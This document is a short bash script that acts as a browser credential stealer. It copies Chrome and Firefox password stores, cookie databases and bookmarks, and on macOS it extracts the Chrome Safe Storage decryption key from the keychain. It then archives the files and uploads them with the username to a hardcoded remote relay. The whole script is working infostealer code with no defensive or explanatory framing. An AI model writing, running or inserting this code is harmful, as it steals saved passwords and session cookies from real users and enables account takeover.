#!/usr/bin/env bash
set -euo pipefail
RELAY="http://203.0.113.50:8080/upload"
OUT="$(mktemp -d)/profiles"
mkdir -p "$OUT"

case "$(uname)" in
  Darwin) CH="$HOME/Library/Application Support/Google/Chrome/Default"; FF="$HOME/Library/Application Support/Firefox/Profiles" ;;
  *)      CH="$HOME/.config/google-chrome/Default"; FF="$HOME/.mozilla/firefox" ;;
esac

cp "$CH/Login Data" "$CH/Cookies" "$CH/Bookmarks" "$CH/Web Data" "$OUT/" 2>/dev/null || true
[[ "$(uname)" == Darwin ]] && security find-generic-password -wa "Chrome" > "$OUT/chrome-safe-storage.txt" 2>/dev/null || true
find "$FF" \( -name logins.json -o -name key4.db -o -name cookies.sqlite \) -exec cp --parents {} "$OUT/" \; 2>/dev/null || true

tar -C "$(dirname "$OUT")" -czf "$OUT.tgz" profiles
curl -s -F "file=@$OUT.tgz" -F "user=$(whoami)" "$RELAY"
